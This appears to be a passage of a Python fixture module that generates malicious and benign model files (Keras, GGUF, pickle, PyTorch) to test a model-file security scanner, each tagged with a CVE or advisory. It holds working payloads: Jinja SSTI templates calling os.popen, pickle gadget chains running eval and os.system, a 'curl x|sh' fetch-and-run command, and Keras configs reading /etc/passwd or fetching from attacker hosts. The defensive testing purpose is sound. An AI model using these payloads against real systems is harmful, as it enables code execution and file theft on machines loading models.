def keras_samples() -> dict[str, tuple[bytes, frozenset[Outcome], str]]:
    cve = "CVE-2025-12058 (Keras StringLookup/IntegerLookup vocabulary path read at load)"
    return {
        "lookup_inline_vocabulary.keras": (
            _keras_zip(keras_config([_lookup(["a", "b"])])),
            CLEAN,
            "benign",
        ),
        "keras_vocabulary_etc_passwd.keras": (
            _keras_zip(keras_config([_lookup("/etc/passwd")])),
            MALICIOUS,
            cve,
        ),
        "keras_vocabulary_url.keras": (
            _keras_zip(keras_config([_lookup("gs://attacker/vocab.txt")])),
            MALICIOUS,
            cve + " (remote fetch, SSRF)",
        ),
        "keras_vocabulary_relative.keras": (
            _keras_zip(keras_config([_lookup("assets/vocab.txt")])),
            HELD,
            cve,
        ),
        "keras_enable_unsafe_deserialization.keras": (
            _keras_zip(
                keras_config(
                    [
                        keras_layer("Dense", {"units": 2}),
                        {
                            "module": "keras.config",
                            "class_name": "enable_unsafe_deserialization",
                            "config": {},
                            "registered_name": None,
                        },
                    ]
                )
            ),
            MALICIOUS,
            "CVE-2025-1550 / CVE-2025-9906 (config turns safe mode off)",
        ),
        "keras_get_file.keras": (
            _keras_zip(
                keras_config(
                    [
                        {
                            "module": "keras.utils",
                            "class_name": "get_file",
                            "config": {"origin": "https://attacker.example/x"},
                            "registered_name": None,
                        }
                    ]
                )
            ),
            MALICIOUS,
            "CVE-2025-8747 (keras.utils.get_file from a config)",
        ),
    }


GGUF_TEMPLATES: dict[str, tuple[str, str]] = {
    "gguf_template_cve_2024_34359.gguf": (
        "{% for x in ().__class__.__base__.__subclasses__() %}"
        "{% if 'warning' in x.__name__ %}"
        "{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}"
        "{% endif %}{% endfor %}",
        "CVE-2024-34359 (llama-cpp-python GGUF chat template SSTI)",
    ),
    "gguf_template_hex_escape.gguf": (
        "{{ ''['\\x5f\\x5fclass\\x5f\\x5f']['\\x5f\\x5fmro\\x5f\\x5f'][1]"
        "['\\x5f\\x5fsubclasses\\x5f\\x5f']() }}",
        "Jinja SSTI filter bypass with \\x5f escapes (PayloadsAllTheThings, Jinja2 section)",
    ),
    "gguf_template_request_attr_chain.gguf": (
        "{{ messages|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5finit\\x5f\\x5f')"
        "|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
        "Jinja SSTI attr-filter chains (PayloadsAllTheThings, Jinja2 section)",
    ),
    "gguf_template_namespace_globals.gguf": (
        "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
        "Jinja SSTI via namespace globals (CVE-2024-34359 variants)",
    ),
}


def _gguf(template: str) -> Writer:
    def write(path: Path) -> None:
        make_gguf(path, templates={"": template})

    return write


# Pickle gadgets from scanner advisories (each a callable a payload reduces).
ADVISORY_CALLS: tuple[tuple[str, str, str], ...] = (
    (
        "cloudpickle.cloudpickle",
        "_make_function",
        "picklescan _unsafe_globals (cloudpickle code objects)",
    ),
    ("cloudpickle.cloudpickle", "subimport", "picklescan _unsafe_globals (cloudpickle subimport)"),
    ("idlelib.run", "Executive.runcode", "picklescan _unsafe_globals (idlelib.run)"),
    ("idlelib.debugobj", "ObjectTreeItem.SetText", "picklescan _unsafe_globals (idlelib.debugobj)"),
    ("idlelib.autocomplete", "AutoComplete.fetch_completions", "picklescan _unsafe_globals"),
    ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", "picklescan _unsafe_globals (eval)"),
    ("code", "InteractiveInterpreter.runcode", "picklescan _unsafe_globals (code)"),
    ("torch.utils.bottleneck.__main__", "run_autograd_prof", "picklescan _unsafe_globals"),
    ("numpy.f2py.crackfortran", "_eval_length", "picklescan _unsafe_globals (numpy.f2py eval)"),
    ("mailcap", "findmatch", "https://github.com/protectai/modelscan/pull/346 (mailcap.findmatch)"),
    ("importlib.util", "find_spec", "https://github.com/mmaitre314/picklescan/issues/66"),
    ("pkgutil", "resolve_name", "GHSA-vvpj-8cmc-gx39 (picklescan universal bypass)"),
    (
        "_operator",
        "methodcaller",
        "GHSA-955r-x9j8-7rhh / GHSA-46h3-79wf-xr6c (picklescan _operator)",
    ),
    (
        "numpy",
        "size",
        "https://github.com/protectai/modelscan/issues/330 (numpy allow-list gadget)",
    ),
)


def advisory_pickles() -> dict[str, tuple[bytes, frozenset[Outcome], str]]:
    out: dict[str, tuple[bytes, frozenset[Outcome], str]] = {}
    for module, name, source in ADVISORY_CALLS:
        out[f"advisory_{module}_{name}.pkl".replace("/", "_")] = (
            reduce_global(module, name),
            HELD,
            source,
        )
    modelscan_330 = bytes.fromhex(
        "80049566000000000000008c056e756d70798c0473697a659394948c056e756d70798c0c5f5f6275696c74"
        "696e735f5f93949468017d7d8c0573686170656803738662680168018c046576616c86528c1d5f5f696d70"
        "6f72745f5f28226f7322292e73797374656d28226964222985522e"
    )
    out["modelscan_330_numpy_builtins.pkl"] = (
        modelscan_330,
        MALICIOUS,
        "https://github.com/protectai/modelscan/issues/330 (numpy.__builtins__ via BUILD)",
    )
    import_chain = pkl(
        sg_call("importlib", "import_module", u("builtins"))
        + b"\x94"
        + g("builtins", "getattr")
        + b"(h\x00"
        + u("eval")
        + b"tR("
        + u("__import__('os').system('id')")
        + b"tR",
        4,
    )
    out["modelscan_331_import_module_chain.pkl"] = (
        import_chain,
        MALICIOUS,
        "https://github.com/protectai/modelscan/issues/331 (importlib.import_module + getattr)",
    )
    out["setitems_on_list_cve_2026_24747.pkl"] = (
        pkl(b"](" + b"K\x01K\x02" + b"u", 2),
        MALICIOUS,
        "CVE-2026-24747 (SETITEMS on a non-dict corrupts torch's weights_only unpickler)",
    )
    out["setitem_on_tensor_cve_2026_24747.pt"] = (
        torch_zip_with(_tensor_setitem()),
        MALICIOUS,
        "CVE-2026-24747 (SETITEM applied to a rebuilt tensor in data.pkl)",
    )
    out["nullifai_broken_after_payload.pt"] = (
        torch_zip_with(reduce_global("os", "system", "curl x|sh")[:-1] + b"\x00\xff"),
        MALICIOUS,
        "ReversingLabs nullifAI (payload first, then a broken pickle stream)",
    )
    return out


def sg_call(module: str, name: str, *args: bytes) -> bytes:
    return u(module) + u(name) + b"\x93(" + b"".join(args) + b"tR"


def _tensor_setitem() -> bytes:
    storage = b"(" + u("storage") + g("torch", "FloatStorage") + u("0") + u("cpu") + b"K\x04tQ"
    rebuild = (
        g("torch._utils", "_rebuild_tensor_v2") + b"(" + storage + b"K\x00K\x04\x85K\x01\x85\x89"
    )
    rebuild += g("collections", "OrderedDict") + b")RtR"
    return pkl(rebuild + b"K\x00K\x07s", 2)


# ---- the whole set -----------------------------------------------------------------------------
def _all() -> dict[str, tuple[bytes | Writer, frozenset[Outcome], str]]:
    groups: list[dict[str, tuple[bytes, frozenset[Outcome], str]]] = [
        nemo_samples(),
        skops_samples(),
        tf_samples(),
        tf_named_samples(),
        onnx_samples(),
        st_samples(),
        zip_hidden_samples(),
        torchscript_samples(),
        keras_samples(),
        advisory_pickles(),
    ]
    out: dict[str, tuple[bytes | Writer, frozenset[Outcome], str]] = {}
    for group in groups:
        out.update(group)
    out["chat_model.gguf"] = (
        _gguf("{% for m in messages %}{{ m['content'] }}{% endfor %}"),
        CLEAN,
        "benign",
    )
    for name, (template, source) in GGUF_TEMPLATES.items():
        out[name] = (_gguf(template), MALICIOUS, source)
    return out


def format_sample_names() -> list[str]:
    """Every sample name (builds the samples in memory: about a second)."""
    return sorted(_sample_table())


def _sample_table() -> dict[str, tuple[bytes | Writer, frozenset[Outcome], str]]:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return _all()


def format_samples(root: Path) -> list[Sample]:
    """Write every sample under `root` (nested names get their folders)."""
    samples: list[Sample] = []
    for name, (content, expect, _source) in _sample_table().items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            content(path)
        samples.append(Sample(name, path, expect))
    return samples


def sources() -> dict[str, str]:
    """Each sample's source (advisory id, issue or write-up)."""
    return {name: source for name, (_, _, source) in _sample_table().items()}
